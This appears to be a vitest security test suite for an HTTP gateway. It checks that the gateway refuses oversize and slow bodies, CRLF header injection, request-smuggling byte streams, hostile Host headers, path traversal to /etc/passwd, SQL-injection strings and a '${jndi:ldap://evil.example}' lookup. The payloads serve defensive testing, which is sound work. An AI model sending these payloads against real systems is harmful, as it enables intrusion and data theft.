/** R-I02: attacks below HTTP's good manners, on raw sockets: size, slowness, line breaks in headers, smuggling, hosts, paths, methods. */
import type { Server } from "node:http";
import type { AddressInfo } from "node:net";
import { createAdaptorServer } from "@hono/node-server";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createApp } from "../../gateway/app.ts";
import { DOORS, type Door, type Refusal, refusalOf } from "./doors.ts";
import { type Attack, bytesOf, hangUp, sendRaw } from "./raw.ts";
import { type AttackWorld, attackWorld, headerOf, REFUSED, submission } from "./world.ts";

let world: AttackWorld;
/** The same hub behind a server that waits for nobody. */
let impatient: Server;
let impatientUrl = "";
beforeAll(async () => {
  world = await attackWorld();
  impatient = createAdaptorServer({ fetch: createApp(world.hub, { ...world.served, jsonTimeoutMs: 1 }).fetch }) as Server;
  await new Promise<void>((resolve) => impatient.listen(0, "127.0.0.1", resolve));
  impatientUrl = `http://127.0.0.1:${(impatient.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await new Promise<void>((resolve) => {
    impatient.close(() => resolve());
    impatient.closeAllConnections();
  });
  await world.stop();
});

const codeAt = (door: Door, status: number, code: string): Refusal =>
  door.manner === "dvcqg" ? [200, `3 ${code}`] : door.manner === "console" ? [status, "page"] : [status, code];
const HOOK = "/hooks/post/collected";

describe("R-I02 R-J04 attacks by size and time", () => {
  it.each(["declared", "chunked"] as const)(
    "R-I02 an oversize body, %s, is refused at every door; the connection ends",
    async (how) => {
      await world.unharmed(async () => {
        for (const door of DOORS) {
          const body = how === "declared" ? REFUSED : Buffer.alloc(door.maxBytes + 1, "x");
          const length = how === "declared" ? door.maxBytes + 1 : "chunked";
          const answer = await world.send({ ...door.honest(world), body, length });
          expect(refusalOf(answer, door.manner), door.name).toEqual(codeAt(door, 413, "request.too-large"));
          world.keepsQuiet(answer, door.name);
          world.hasSafeHeaders(answer, door.name);
        }
        const hook = await world.send({ method: "POST", path: HOOK, body: REFUSED, length: 20_000_000 });
        expect(refusalOf(hook, "rest")).toEqual([413, "request.too-large"]);
        const upload = {
          method: "POST",
          path: "/api/v1/blobs?name=a.pdf",
          headers: world.key("portal"),
          body: "%PDF-1.7",
          length: 52_428_801,
        };
        expect(refusalOf(await world.send(upload), "rest")).toEqual([413, "request.too-large"]);
      });
    },
  );

  it.each(["declared", "chunked"] as const)(
    "R-I02 a slow body, %s, that never ends is refused at every door; the connection ends",
    async (how) => {
      await world.unharmed(async () => {
        for (const door of DOORS) {
          const length = how === "declared" ? 5_000 : "chunked";
          const answer = await world.send({ ...door.honest(world), body: "{", length }, impatientUrl);
          expect(refusalOf(answer, door.manner), door.name).toEqual(codeAt(door, 408, "request.too-slow"));
          expect(headerOf(answer, "connection"), door.name).toBe("close");
          world.keepsQuiet(answer, door.name);
        }
        const hook = await world.send(
          { method: "POST", path: HOOK, body: "{", length: how === "declared" ? 100 : "chunked" },
          impatientUrl,
        );
        expect(refusalOf(hook, "rest")).toEqual([408, "request.too-slow"]);
      });
    },
  );

  it.each(["declared", "chunked"] as const)(
    "R-I02 a body, %s, cut off by hanging up stores nothing, and is no fault of the hub in its log",
    async (how) => {
      const upload = { path: "/api/v1/blobs?name=a.pdf", headers: world.key("portal") };
      const attacks = [...DOORS.map((door) => door.honest(world)), { method: "POST", path: HOOK }, upload];
      await world.unharmed(async () => {
        for (const attack of attacks) {
          const asked = world.lines.length;
          const length = how === "declared" ? 5_000 : "chunked";
          await hangUp(world.url, bytesOf(world.url, { ...attack, body: `%PDF-1.7 ${REFUSED}`, length }));
          const answered = () => world.lines.slice(asked).find((one) => one.includes('"status":'));
          await vi.waitFor(() => expect(answered()).toBeDefined(), { timeout: 60_000 });
          const line = JSON.parse(answered() ?? "") as { level: number; status: number };
          expect([line.level, line.status < 500 || attack.path.startsWith("/soap/")], attack.path).toEqual([30, true]);
        }
      });
    },
  );

  it("R-I02 a huge header and 10,000 headers are refused before any door", async () => {
    await world.unharmed(async () => {
      for (const door of DOORS) {
        const honest = door.honest(world);
        const huge = { ...(honest.headers as Record<string, string>), "x-purpose": REFUSED.repeat(10_000) };
        const many = [
          ...Object.entries(honest.headers as Record<string, string>),
          ...Array.from({ length: 10_000 }, (_, i): readonly [string, string] => [`x-${i}`, REFUSED]),
        ];
        for (const headers of [huge, many]) {
          const answer = await world.send({ ...honest, headers });
          expect(answer.status, door.name).toBe(431);
          world.keepsQuiet(answer, door.name);
        }
      }
    });
  });
});

/** Sends bytes as they are; every answer refuses, none is of a request that was hidden in another. */
const refusedAll = async (bytes: string | Buffer, what: string): Promise<void> => {
  const answers = await sendRaw(world.url, bytes);
  for (const answer of answers) {
    expect(answer.status, `${what}: ${answer.text.slice(0, 200)}`).toBeGreaterThanOrEqual(400);
    expect(answer.status, what).toBeLessThan(500);
    world.keepsQuiet(answer, what);
  }
  // Closed without a word is a refusal too.
  expect(answers.length, what).toBeLessThanOrEqual(1);
};

describe("R-I02 R-J04 attacks by headers", () => {
  const submit = (headers: Record<string, string>): Attack => ({
    path: "/api/v1/dossiers",
    headers: { ...world.json("portal"), "idempotency-key": crypto.randomUUID(), ...headers },
    body: JSON.stringify(submission()),
  });

  it.each(["idempotency-key", "x-purpose", "x-on-behalf-of", "authorization", "if-match", "lgspaccesstoken", "soapaction"])(
    "R-I02 header injection: a bare CR, a NUL or another control in %s ends at the parser",
    async (name) => {
      await world.unharmed(async () => {
        for (const bad of ["a\rset-cookie: x=1", "a\0b", "a\x01b", "a\x7fb"])
          for (const door of DOORS) {
            const honest = door.honest(world);
            const headers = { ...(honest.headers as Record<string, string>), [name]: bad };
            const answer = await world.send({ ...honest, headers });
            expect(answer.status, `${door.name} ${JSON.stringify(bad)}`).toBe(400);
            expect(answer.headers.has("set-cookie")).toBe(false);
            world.keepsQuiet(answer, door.name);
          }
      });
    },
  );

  it("R-I02 CRLF in what is echoed: X-Request-Id and traceparent come back only where they are harmless", async () => {
    const hostile = [
      "x\tset-cookie: a=1",
      `<script>${REFUSED}</script>`,
      `${"a".repeat(129)}`,
      "%0d%0aset-cookie:%20a=1",
      "áéí-áéí-áéí",
    ];
    await world.unharmed(async () => {
      for (const value of hostile) {
        const answer = await world.send({ path: "/api/v1/dossiers", headers: { "x-request-id": value, traceparent: value } });
        expect(answer.status).toBe(401);
        expect(headerOf(answer, "x-request-id")).toMatch(/^[0-9a-f-]{36}$/);
        expect(headerOf(answer, "traceparent")).toMatch(/^00-[0-9a-f]{32}-[0-9a-f]{16}-[0-9a-f]{2}$/);
        expect(answer.headers.has("set-cookie")).toBe(false);
        world.keepsQuiet(answer, value);
      }
    });
  });

  it("R-I02 header injection by what is decoded first: line breaks in X-Purpose and X-On-Behalf-Of are refused, no look is recorded", async () => {
    const { dossierId } = await world.act<{ dossierId: string }>("portal", "/api/v1/dossiers", submission(), {
      "idempotency-key": "crlf",
    });
    await world.unharmed(async () => {
      for (const [name, value] of [
        ["x-purpose", "a%0d%0aset-cookie:%20x=1"],
        ["x-purpose", `a%00${REFUSED}`],
        ["x-purpose", "%E2%80%A8Người khác"],
        ["x-purpose", "%ff%fe"],
        ["x-purpose", "a".repeat(301)],
        ["x-on-behalf-of", "a%0d%0ab"],
        ["x-on-behalf-of", "' or 1=1 --"],
      ] as const) {
        const headers = { ...world.key("portal"), [name]: value };
        const answer = await world.send({ path: `/api/v1/dossiers/${dossierId}`, headers });
        expect(refusalOf(answer, "rest"), `${name}: ${value}`).toEqual([400, "request.bad-header"]);
        world.keepsQuiet(answer, value);
        world.hasSafeHeaders(answer, value);
      }
    });
  });

  it("R-I02 an Idempotency-Key that is none is refused, no dossier is made", async () => {
    await world.unharmed(async () => {
      for (const key of ["", "x".repeat(300), "áéí", "a b\tc", `'; drop table dossier; -- ${REFUSED}`]) {
        const answer = await world.send(submit({ "idempotency-key": key }));
        expect(refusalOf(answer, "rest"), key).toEqual([400, "request.bad-header"]);
        world.keepsQuiet(answer, key);
      }
    });
  });

  it("R-I02 a Host that is none, foreign, missing or given twice opens nothing and is echoed nowhere", async () => {
    await world.unharmed(async () => {
      const wsdl = "/soap/dossiers?wsdl";
      for (const host of [
        "",
        "evil.example/x",
        'evil.example"><x',
        "a b",
        "evil.example:99999",
        "[::1",
        "evil.example@hub",
        "hub\tx",
      ]) {
        const answer = await world.send({ path: wsdl, headers: { host } });
        expect(answer.status, host).toBe(400);
        expect(answer.text, host).not.toContain("evil");
        world.keepsQuiet(answer, host);
      }
      for (const door of DOORS.filter(({ manner }) => manner === "console")) {
        const honest = door.honest(world);
        const headers = { ...(honest.headers as Record<string, string>), host: "evil.example", origin: "http://evil.example" };
        const answer = await world.send({ ...honest, headers });
        // No password is typed into a page that a foreign name shows without encryption.
        expect(refusalOf(answer, "console")).toEqual([403, "page"]);
        expect(answer.text).not.toContain("evil.example");
      }
      await refusedAll("GET /health/live HTTP/1.1\r\nconnection: close\r\n\r\n", "no host");
      await refusedAll(
        "GET /soap/dossiers?wsdl HTTP/1.1\r\nhost: a\r\nhost: evil.example\r\nconnection: close\r\n\r\n",
        "two hosts",
      );
    });
  });

  it("R-I02 request smuggling: lengths that disagree end the connection, the request inside is never seen", async () => {
    const inside = `GET /api/v1/dossiers HTTP/1.1\r\nhost: hub\r\nauthorization: Bearer ${world.keys["operator"]}\r\nconnection: close\r\n\r\n`;
    const start = "POST /oauth/token HTTP/1.1\r\nhost: hub\r\ncontent-type: application/x-www-form-urlencoded\r\n";
    const smuggled: readonly (readonly [string, string])[] = [
      ["CL and TE", `${start}content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n${inside}`],
      ["TE and CL", `${start}transfer-encoding: chunked\r\ncontent-length: ${inside.length}\r\n\r\n0\r\n\r\n${inside}`],
      ["two lengths", `${start}content-length: 0\r\ncontent-length: ${inside.length}\r\n\r\n${inside}`],
      ["a list of lengths", `${start}content-length: 0, ${inside.length}\r\n\r\n${inside}`],
      ["a negative length", `${start}content-length: -1\r\n\r\n${inside}`],
      ["a length with a sign", `${start}content-length: +0\r\n\r\n${inside}`],
      ["a hex length", `${start}content-length: 0x0\r\n\r\n${inside}`],
      ["an odd coding", `${start}transfer-encoding: xchunked\r\n\r\n0\r\n\r\n${inside}`],
      ["a coding after chunked", `${start}transfer-encoding: chunked, identity\r\n\r\n0\r\n\r\n${inside}`],
      ["a chunk size that is none", `${start}transfer-encoding: chunked\r\n\r\nzz\r\n\r\n${inside}`],
      ["a huge chunk size", `${start}transfer-encoding: chunked\r\n\r\nffffffffffffffffff\r\n\r\n${inside}`],
      ["a space before the colon", `${start}content-length : 0\r\n\r\n${inside}`],
      ["a folded header", `${start}transfer-encoding:\r\n chunked\r\ncontent-length: 0\r\n\r\n${inside}`],
      ["bare line feeds", `${start.replaceAll("\r\n", "\n")}content-length: 0\n\n${inside}`],
    ];
    await world.unharmed(async () => {
      for (const [what, bytes] of smuggled) await refusedAll(bytes, what);
    });
  });
});

describe("R-I02 R-J04 attacks by path and method", () => {
  const TRAVERSALS = [
    "/docs/../../../etc/passwd",
    "/docs/..%2f..%2f..%2fetc%2fpasswd",
    "/docs/%2e%2e/%2e%2e/package.json",
    "/docs/..%5c..%5cpackage.json",
    "/docs/package.json",
    "/docs/swagger-ui.css%00.html",
    "/docs/constructor",
    "/docs/__proto__",
    "/hooks/../api/v1/lanes",
    "/hooks/post/..%2f..%2fhealth",
    "/hooks/__proto__/constructor",
    "/hooks/constructor/prototype",
    "/hooks/post/toString",
    "/hooks/post%00/collected",
    "/console/..%2fapi%2fv1%2fdossiers",
    "/soap/__proto__?wsdl",
    "//evil.example/api/v1/dossiers",
    "/api/v1/%2e%2e/%2e%2e/etc/passwd",
  ];
  const REFS = [
    "%00",
    "a%00b",
    "..%2f..%2fetc%2fpasswd",
    "%ff%fe",
    "%ed%a0%80",
    "'%20or%20'1'='1",
    "1;drop%20table%20dossier",
    "%25%27",
    "%E2%80%AEtxt",
    "H57.122%E2%80%93260213",
    "__proto__",
    `${"a".repeat(5_000)}`,
    "%F0%9F%92%A9",
    "%C0%AE%C0%AE",
    "{{7*7}}",
    "%24{jndi:ldap://evil.example}",
  ];

  it.each(TRAVERSALS)("R-I02 path traversal: %s finds nothing", async (path) => {
    await world.unharmed(async () => {
      for (const method of ["GET", "POST"]) {
        const answer = await world.send({
          method,
          path,
          headers: world.key("portal"),
          ...(method === "POST" ? { body: "{}" } : {}),
        });
        expect([303, 400, 401, 403, 404, 405, 415], `${method} ${answer.status} ${answer.text.slice(0, 200)}`).toContain(
          answer.status,
        );
        if (answer.status === 303) expect(headerOf(answer, "location")).toBe("/console/sign-in");
        expect(answer.text).not.toMatch(/"(?:name|version|items)":|root:/);
        expect(answer.text).not.toContain("evil.example");
        world.keepsQuiet(answer, path);
        world.hasSafeHeaders(answer, path);
      }
    });
  });

  it.each(REFS)("R-I02 hostile code %s: not found at every door that reads one, no 5xx", async (ref) => {
    const paths = [
      `/api/v1/dossiers/${ref}`,
      `/api/v1/dossiers/${ref}/timeline`,
      `/api/v1/blobs/${ref}?dossier=x`,
      `/api/v1/blobs/${"a".repeat(64)}?dossier=${ref}`,
      `/api/v1/subscriptions/${ref}`,
      `/api/v1/transfers/${ref}`,
      `/api/v1/procedures/${ref}`,
      `/api/v1/routes/${ref}`,
      `/api/v1/events?after=${ref}`,
      `/api/v1/dossiers?cursor=${ref}&limit=5`,
      `/api/v1/look-up?code=${ref}&key=AAAAAAAAAA`,
      `/api/v1/fees/settlement?agencyId=${ref}&period=${ref}`,
    ];
    await world.unharmed(async () => {
      for (const path of paths)
        for (const partner of ["portal", "operator"]) {
          const answer = await world.send({ path, headers: world.key(partner) });
          const [status, code] = refusalOf(answer, "rest");
          // Some texts are a cursor like any other: it begins somewhere in the caller's own list.
          if (path.includes("cursor=") && status === 200) continue;
          expect([400, 403, 404, 422], `${partner} ${path} → ${status} ${answer.text.slice(0, 200)}`).toContain(status);
          expect(code, path).toMatch(/^[a-z-]+\.[a-z-]+$/);
          world.keepsQuiet(answer, path);
          world.hasSafeHeaders(answer, path);
        }
      const commands = await world.send({
        path: `/api/v1/dossiers/${ref}/progress`,
        headers: world.json("portal"),
        body: '{"note":"x"}',
      });
      expect([404, 422]).toContain(commands.status);
    });
  });

  it("R-I02 TRACE, CONNECT, unknown and unfitting methods do nothing at any door, and echo nothing", async () => {
    const paths = [...new Set(DOORS.map((door) => door.honest(world).path)), "/health/live", "/docs", "/openapi.json", HOOK];
    await world.unharmed(async () => {
      for (const path of paths)
        for (const method of ["TRACE", "OPTIONS", "HEAD", "PUT", "DELETE", "PROPFIND"]) {
          const headers = { ...world.key("portal"), "x-echo": REFUSED, origin: "http://evil.example" };
          const answer = await world.send({ method, path, headers });
          const fits = method === "HEAD" || (path === HOOK && ["PUT", "DELETE"].includes(method));
          if (!fits) expect([404, 405], `${method} ${path}`).toContain(answer.status);
          expect(answer.status, `${method} ${path}`).toBeLessThan(500);
          if (method === "HEAD") expect(answer.text).toBe("");
          expect(answer.headers.has("access-control-allow-origin"), `${method} ${path}`).toBe(false);
          world.keepsQuiet(answer, `${method} ${path}`);
          world.hasSafeHeaders(answer, `${method} ${path}`);
        }
      await refusedAll(bytesOf(world.url, { method: "CONNECT", path: "evil.example:443" }), "CONNECT");
      await refusedAll(bytesOf(world.url, { method: "G@T", path: "/" }), "no method");
    }, ["wire_log"]);
  });

  it("R-I02 method overriding: no header and no field makes a read of a POST, or a write of a GET", async () => {
    await world.unharmed(async () => {
      for (const name of ["x-http-method-override", "x-method-override", "x-http-method"]) {
        const headers = { ...world.json("portal"), [name]: "POST", "idempotency-key": crypto.randomUUID() };
        const answer = await world.send({
          method: "GET",
          path: "/api/v1/dossiers?_method=POST",
          headers,
          body: JSON.stringify(submission()),
        });
        expect(refusalOf(answer, "rest")).toEqual([400, "request.bad-query"]);
      }
    });
  });
});
